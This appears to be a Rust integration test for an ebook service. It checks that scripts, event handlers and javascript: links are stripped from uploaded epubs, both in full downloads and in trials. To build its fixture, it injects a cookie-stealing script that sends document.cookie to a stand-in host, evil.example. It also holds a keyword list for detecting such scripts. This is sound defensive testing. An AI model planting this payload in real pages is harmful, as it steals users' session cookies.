//! An uploaded epub's scripts are removed on the server: the file buyers download, and the
//! trial others read, hold none (the reader's sandbox is not the only defence).

use std::io::{Cursor, Read, Write};

use zip::write::SimpleFileOptions;
use zip::{CompressionMethod, ZipArchive, ZipWriter};

use crate::support::{TestApp, epub, zip_names};

/// Every entry of an epub, inflated.
fn entries(data: &[u8]) -> Vec<(String, Vec<u8>)> {
    let mut archive = ZipArchive::new(Cursor::new(data)).unwrap();
    (0..archive.len())
        .map(|i| {
            let mut f = archive.by_index(i).unwrap();
            let mut out = Vec::new();
            f.read_to_end(&mut out).unwrap();
            (f.name().to_owned(), out)
        })
        .collect()
}

/// `book` with a script, handlers and a javascript: link in its first chapter.
fn with_scripts(book: &[u8]) -> Vec<u8> {
    let mut out = ZipWriter::new(Cursor::new(Vec::new()));
    let stored = SimpleFileOptions::default().compression_method(CompressionMethod::Stored);
    let deflated = SimpleFileOptions::default().compression_method(CompressionMethod::Deflated);
    let mut chapters = 0;
    for (name, bytes) in entries(book) {
        let bytes = if name.ends_with("chapter-001.xhtml") {
            chapters += 1;
            String::from_utf8(bytes)
                .unwrap()
                .replace(
                    "</head>",
                    "<script>fetch('https://evil.example/?' + document.cookie)</script></head>",
                )
                .replace("<body", "<body onload=\"steal()\"")
                .replacen("<p", "<p onclick=\"alert(1)\"", 1)
                .replacen("</p>", " <a href=\"javascript:alert(2)\">more</a></p>", 1)
                .into_bytes()
        } else {
            bytes
        };
        let options = if name == "mimetype" { stored } else { deflated };
        out.start_file(name.as_str(), options).unwrap();
        out.write_all(&bytes).unwrap();
    }
    assert_eq!(chapters, 1, "the fixture's first chapter was found");
    out.finish().unwrap().into_inner()
}

fn assert_no_script(data: &[u8]) {
    for (name, bytes) in entries(data) {
        let text = String::from_utf8_lossy(&bytes).to_ascii_lowercase();
        for bad in [
            "<script",
            "onload",
            "onclick",
            "javascript:",
            "evil.example",
        ] {
            assert!(!text.contains(bad), "{bad} in {name}");
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_uploaded_epub_is_stored_and_served_without_its_scripts() {
    let app = TestApp::spawn().await;
    let writer = app.user(&["writer"]).await;
    let reader = app.user(&["reader"]).await;
    let clean = epub("The Quiet Script", 4, 12);
    let dirty = with_scripts(&clean);
    let book = app
        .create_book(
            &writer,
            "The Quiet Script",
            vec![("quiet.epub", dirty.clone())],
            true,
        )
        .await;
    let plain = app
        .create_book(
            &writer,
            "The Quiet Script, plain",
            vec![("plain.epub", clean.clone())],
            false,
        )
        .await;
    assert_eq!(book.chapter_count, plain.chapter_count, "the same chapters");

    let (meta, whole) = app.content(&book.book_id, Some(&writer)).await.unwrap();
    assert_eq!(meta.access, "full");
    assert_no_script(&whole);
    assert_eq!(
        book.file_size as usize,
        whole.len(),
        "the size of what is stored"
    );
    assert_eq!(zip_names(&whole), zip_names(&dirty), "the same entries");
    assert_eq!(zip_names(&whole)[0], "mimetype");
    let chapter = entries(&whole)
        .into_iter()
        .find(|(n, _)| n.ends_with("chapter-001.xhtml"))
        .map(|(_, b)| String::from_utf8(b).unwrap())
        .unwrap();
    assert!(
        chapter.contains("<a>more</a>"),
        "the link's text stays: {chapter}"
    );

    let (meta, trial) = app.content(&book.book_id, Some(&reader)).await.unwrap();
    assert_eq!(meta.access, "trial");
    assert_no_script(&trial);
}
